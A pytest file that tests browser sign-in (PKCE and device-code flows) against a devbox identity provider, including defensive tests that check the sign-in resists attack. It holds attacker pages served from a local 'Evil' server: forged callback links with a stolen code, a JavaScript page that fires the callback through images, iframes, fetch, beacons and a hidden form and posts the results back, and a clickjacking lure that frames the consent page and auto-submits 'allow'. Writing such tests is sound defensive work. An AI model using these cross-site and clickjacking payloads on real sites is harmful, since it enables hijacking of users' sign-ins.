"""Signing in with a real browser, at the devbox's own identity provider."""

from __future__ import annotations

import contextlib
import html
import http.server
import json
import re
import sys
import threading
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

pytest.importorskip("secretstorage")

from browser import Person
from session import Session, Started

from flyte_lite.devbox import Devbox

CALL = """
import json, sys
import flyte_lite

with flyte_lite.Client(sys.argv[1], project="flytesnacks", domain="development", **json.loads(sys.argv[2])) as client:
    print(len(list(client.runs.listall(limit=1))), "runs")
"""


@contextlib.contextmanager
def calling(session: Session, box: Devbox, **settings: Any) -> Iterator[Started]:
    """A program that somebody must sign in for."""
    told = json.dumps({"headless": False, **settings})
    with session.started(sys.executable, "-c", CALL, box.endpoint, told) as program:
        yield program


def asked(url: str, name: str) -> str:
    return parse_qs(urlsplit(url).query)[name][0]


class Evil:
    """A web server of somebody else's, with one page.

    Attributes:
        brought: What the page told it, as JSON.
        icon: Set once somebody has asked for an icon.
    """

    def __init__(self, page: str) -> None:
        evil = self
        self.brought: list[Any] = []
        self.icon = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/favicon.ico":
                    evil.icon.set()
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                evil.brought.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/"

    def __enter__(self) -> Evil:
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def test_somebody_signs_in(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        tab = person.open(program.opened())
        assert "flyte-devbox-cli wants to call this devbox for you (all offline)." in tab.shows("Who are you?")
        tab.press("Allow")
        tab.shows("You can close this page and go back to your program.")
        assert tab.title == "flyte_lite"
        status, printed, told = program.ended()
    assert (status, printed) == (0, "0 runs\n")
    code = asked(tab.address, "code")
    assert code not in tab.source
    assert code not in told
    assert box.issuer.issued() == {"authorization_code": 1}
    # It is kept: another process asks nobody.
    with calling(session, box, auth_type="Pkce") as program:
        assert program.ended() == (0, "0 runs\n", "")
    assert box.issuer.issued() == {"authorization_code": 1}


def test_somebody_denies_it(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        tab = person.open(program.opened())
        tab.press("Deny")
        assert "access_denied" in tab.shows("Not signed in")
        status, _, told = program.ended()
    assert status == 1
    assert "nobody signed in: the identity provider said access_denied" in told
    assert box.issuer.issued() == {}
    assert session.items() == []


def test_a_browser_that_looks_around_first(session: Session, person: Person, box: Devbox) -> None:
    with Evil("<!doctype html><title>A page</title>") as page:
        person.open(page.url).is_called("A page")
        page.icon.wait(20)
        assert page.icon.is_set(), "this browser asks for icons"
    with calling(session, box, auth_type="Pkce") as program:
        url = program.opened()
        callback = asked(url, "redirect_uri")
        # With each page it asks for an icon, and opens connections in advance.
        for path in ("/", "/favicon.ico", "/callback/and/more"):
            tab = person.open(callback.replace("/callback", path))
            tab.shows("This is where a sign-in ends, and nothing else.")
        person.open(callback).shows("This is not the sign-in that your program waits for.")
        tab.go(url)
        tab.press("Allow")
        tab.shows("You can close this page")
        assert program.ended()[:2] == (0, "0 runs\n")


def test_a_link_of_somebody_else(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        url = program.opened()
        callback = asked(url, "redirect_uri")
        for query in ("code=stolen&state=guessed", "code=stolen", "error=access_denied&state=guessed", "state="):
            link = html.escape(f"{callback}?{query}")
            with Evil(f'<!doctype html><title>Win</title><a href="{link}">You have won</a>') as evil:
                tab = person.open(evil.url)
                tab.press("You have won")
                tab.shows("This is not the sign-in that your program waits for.")
        # Another name for this machine, as a page can make one of its own.
        tab.go(f"{callback}?code=stolen&state={asked(url, 'state')}".replace("localhost", "evil.localhost"))
        tab.shows("This is where a sign-in ends, and nothing else.")
        tab.go(url)
        tab.press("Allow")
        tab.shows("You can close this page")
        assert program.ended()[:2] == (0, "0 runs\n")
    assert box.issuer.issued() == {"authorization_code": 1}


# What a page can do to an address without its user: the state is right, as if it had leaked.
ATTEMPTS = """<!doctype html><title>Evil</title><body><script>
const target = TARGET, read = {};
const part = (name, address) => new Promise(done => {
    const element = document.createElement(name);
    element.onload = element.onerror = event => done(event.type);
    element.src = address;
    document.body.append(element);
});
(async () => {
    read.img = await part("img", target);
    read.script = await part("script", target);
    read.iframe = await part("iframe", target);
    const blind = {mode: "no-cors"};
    for (const [name, options] of [["cors", {}], ["blind", blind], ["post", {...blind, method: "POST"}]])
        read[name] = await fetch(target, options).then(answer => answer.text(), error => String(error));
    read.beacon = navigator.sendBeacon(target, "x");
    const form = document.createElement("form");
    form.method = "post"; form.action = target; form.target = "another";
    document.body.append(form);
    const frame = document.createElement("iframe"); frame.name = "another"; document.body.append(frame);
    await new Promise(done => { frame.onload = done; form.submit(); });
    await fetch(location.href, {method: "POST", body: JSON.stringify(read)});
    document.title = "done";
})();
</script>"""


def test_a_page_of_somebody_else(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        url = program.opened()
        target = f"{asked(url, 'redirect_uri')}?code=stolen&state={asked(url, 'state')}"
        with Evil(ATTEMPTS.replace("TARGET", json.dumps(target))) as evil:
            tab = person.open(evil.url)
            tab.is_called("done")
            (read,) = evil.brought
        assert (read["img"], read["script"], read["cors"]) == ("error", "error", "TypeError: Failed to fetch")
        assert (read["blind"], read["post"]) == ("", ""), "nothing can be read"
        tab.go(url)
        tab.press("Allow")
        tab.shows("You can close this page")
        assert program.ended()[:2] == (0, "0 runs\n")
    assert box.issuer.issued() == {"authorization_code": 1}, "and the stolen code went nowhere"
    assert len(box.issuer.requests) == 1


def test_two_tabs_of_one_sign_in(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        url = program.opened()
        first, second = person.open(url), person.open(url)
        second.shows("Who are you?")
        first.press("Allow")
        first.shows("You can close this page")
        assert program.ended()[:2] == (0, "0 runs\n")
        second.press("Allow")
        second.shows("ERR_CONNECTION_REFUSED")
    assert box.issuer.issued() == {"authorization_code": 1}


def test_two_programs_at_a_time(session: Session, person: Person, box: Devbox) -> None:
    with (
        calling(session, box, auth_type="Pkce", token_store="memory") as one,
        calling(session, box, auth_type="Pkce", token_store="memory") as another,
    ):
        tabs = person.open(one.opened()), person.open(another.opened())
        for tab in tabs:
            tab.shows("Who are you?")
        for tab in reversed(tabs):
            tab.press("Allow")
        for tab in tabs:
            tab.shows("You can close this page")
        assert [one.ended()[:2], another.ended()[:2]] == [(0, "0 runs\n")] * 2
    assert box.issuer.issued() == {"authorization_code": 2}


# Somebody else's page shows ours inside, and sends its form.
LURE = """<!doctype html><title>Game</title><iframe src="PAGE" onload="document.title = 'framed'"></iframe>
<form method="post" action="PAGE"><input name="request" value="REQUEST"><input name="decision" value="allow">
<input name="user" value="ada"><input name="mark" value="x"><button>Play</button></form>"""


def test_nobody_is_made_to_allow_it(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="Pkce") as program:
        url = program.opened()
        # They have the page open already, so there is a cookie.
        tab = person.open(url)
        tab.shows("Who are you?")
        page, _, request = url.partition("?")
        lure = LURE.replace("PAGE", html.escape(page)).replace("REQUEST", html.escape(request))
        with Evil(lure) as evil:
            other = person.open(evil.url)
            other.is_called("framed")
            (inside,) = other.inside_frames()
            assert "Who are you?" not in inside, "what is not seen can't be pressed"
            other.press("Play")
            other.shows("this did not come from the page here; open it again")
        assert box.issuer.issued() == {}
        tab.press("Allow")
        tab.shows("You can close this page")
        assert program.ended()[:2] == (0, "0 runs\n")


def test_a_device_code(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="DeviceFlow") as program:
        address = re.search(r"http\S+", program.printed("http"))
        assert address is not None
        (code,) = box.issuer.waiting()
        tab = person.open(address[0])
        shown = tab.shows("Is this the code that your program shows?")
        assert code in shown
        tab.press("Allow")
        tab.shows("You can close this page and go back to your program.")
        assert program.ended()[:2] == (0, "0 runs\n")


def test_a_device_code_that_is_typed_in(session: Session, person: Person, box: Devbox) -> None:
    with calling(session, box, auth_type="DeviceFlow") as program:
        address = re.search(r"http\S+", program.printed("http"))
        assert address is not None
        (code,) = box.issuer.waiting()
        tab = person.open(address[0].partition("?")[0])
        tab.write("user_code", "WRONG-ONE")
        tab.press("Go on")
        tab.shows("No program waits for this code, or it has expired.")
        tab.write("user_code", f" {code.lower()} ")
        tab.press("Go on")
        tab.press("Deny")
        tab.shows("Your program is told so. You can close this page.")
        status, _, told = program.ended()
    assert status == 1
    assert "signing in was declined" in told
    assert box.issuer.issued() == {}
